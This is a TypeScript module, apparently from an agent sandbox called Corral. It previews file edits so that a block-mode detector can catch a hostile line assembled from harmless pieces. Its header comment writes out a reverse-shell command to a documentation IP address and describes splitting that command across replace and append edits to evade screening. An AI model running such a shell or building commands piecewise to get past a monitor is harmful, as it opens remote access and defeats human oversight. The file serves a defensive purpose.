// Why: with `detection.on_finding: block` a file call is judged before it runs, but an edit's new
// text alone can be one harmless half of a hostile line — `nc -QQ /bin/sh 198.51.100.7 4444`
// written first, then `str_replace QQ → e` — or finish a line an append continues (`nc -` then
// `e /bin/sh …`), or land in a script known as one only by its `#!`. After the call the lines it
// left are screened (file-tools.ts screenEditedLines), but then the file is already written. Here
// the same lines are worked out *before* the call from the file as it is now — read by Corral
// only where that is safe (plain-file.ts: the workspace or a writable root's layer, real
// directories, no link, no FIFO) — so block mode refuses the edit that completes the line.
// Threat it stops: a hostile script assembled from harmless edits in block mode. A file Corral
// cannot read safely, or that changes between this look and the call, is still screened after it.
import type { FileOperation } from './file-tools.js';

/** The most of a file an edit preview reads (larger files are judged after the call only). */
export const PREVIEW_MAX = 8 << 20;
/** As native/corral-file.c: how much of a file's end an append sees, and the most context printed. */
const APPEND_TAIL = 65536;
const EDIT_CONTEXT_MAX = 1 << 20;

const NL = 0x0a;

/** The lines of d around bytes [s, e): one more line either side, and the first line when not among them (native/corral-file.c print_around). */
export function linesAround(d: Buffer, s: number, e: number): Buffer {
  const before = (pos: number): number => (pos < 0 ? -1 : d.lastIndexOf(NL, Math.min(pos, d.length - 1)));
  const after = (pos: number): number => (pos >= d.length ? -1 : d.indexOf(NL, pos));
  let lo = s > 0 ? before(s - 1) + 1 : 0;
  lo = lo > 1 ? before(lo - 2) + 1 : 0;
  let h = after(e > s ? e - 1 : s);
  if (h >= 0) h = after(h + 1);
  let hi = h < 0 ? d.length : h + 1;
  if (hi - lo > EDIT_CONTEXT_MAX) hi = lo + EDIT_CONTEXT_MAX;
  const parts: Buffer[] = [];
  if (lo > 0) {
    const n = after(0);
    parts.push(n >= 0 && n < 255 ? d.subarray(0, n + 1) : Buffer.concat([d.subarray(0, 255), Buffer.from('\n')]));
  }
  parts.push(d.subarray(lo, hi));
  return Buffer.concat(parts);
}

const bytes = (v: string | Uint8Array): Buffer => (typeof v === 'string' ? Buffer.from(v) : Buffer.from(v.buffer, v.byteOffset, v.length));

/**
 * The output the file-tool program would print for this edit of `current` ("<size>\n" and the lines
 * around the change), or undefined when the call would not edit (not an edit, old text absent or
 * repeated, line past the end): what screenEditedLines judges, before the call instead of after.
 */
export function previewEdit(spec: FileOperation, current: Buffer): string | undefined {
  let out: Buffer, s: number, e: number;
  if (spec.op === 'str_replace') {
    const old = bytes(spec.old), neu = bytes(spec.new);
    const at = current.indexOf(old);
    if (old.length === 0 || at < 0 || current.indexOf(old, at + old.length) >= 0) return undefined;
    out = Buffer.concat([current.subarray(0, at), neu, current.subarray(at + old.length)]);
    [s, e] = [at, at + neu.length];
  } else if (spec.op === 'insert') {
    const text = bytes(spec.text);
    let count = 0, at = 0;
    for (let i = 0; i < current.length; i++) {
      if (current[i] === NL || i + 1 === current.length) { count++; if (count === spec.line) at = i + 1; }
    }
    if (spec.line > count) return undefined;
    if (spec.line === 0) at = 0;
    const head = spec.line > 0 && current[at - 1] !== NL ? Buffer.concat([current.subarray(0, at), Buffer.from('\n')]) : current.subarray(0, at);
    const body = text.length > 0 && text[text.length - 1] !== NL && spec.line < count ? Buffer.concat([text, Buffer.from('\n')]) : text;
    out = Buffer.concat([head, body, current.subarray(at)]);
    [s, e] = [head.length, head.length + body.length];
  } else if (spec.op === 'write' && spec.append) {
    const tail = current.subarray(Math.max(0, current.length - APPEND_TAIL));
    const data = bytes(spec.content);
    const seen = Buffer.concat([tail, data]);
    return `${current.length + data.length}\n${linesAround(seen, tail.length, seen.length).toString('utf8')}`;
  } else return undefined;
  return `${out.length}\n${linesAround(out, s, e).toString('utf8')}`;
}
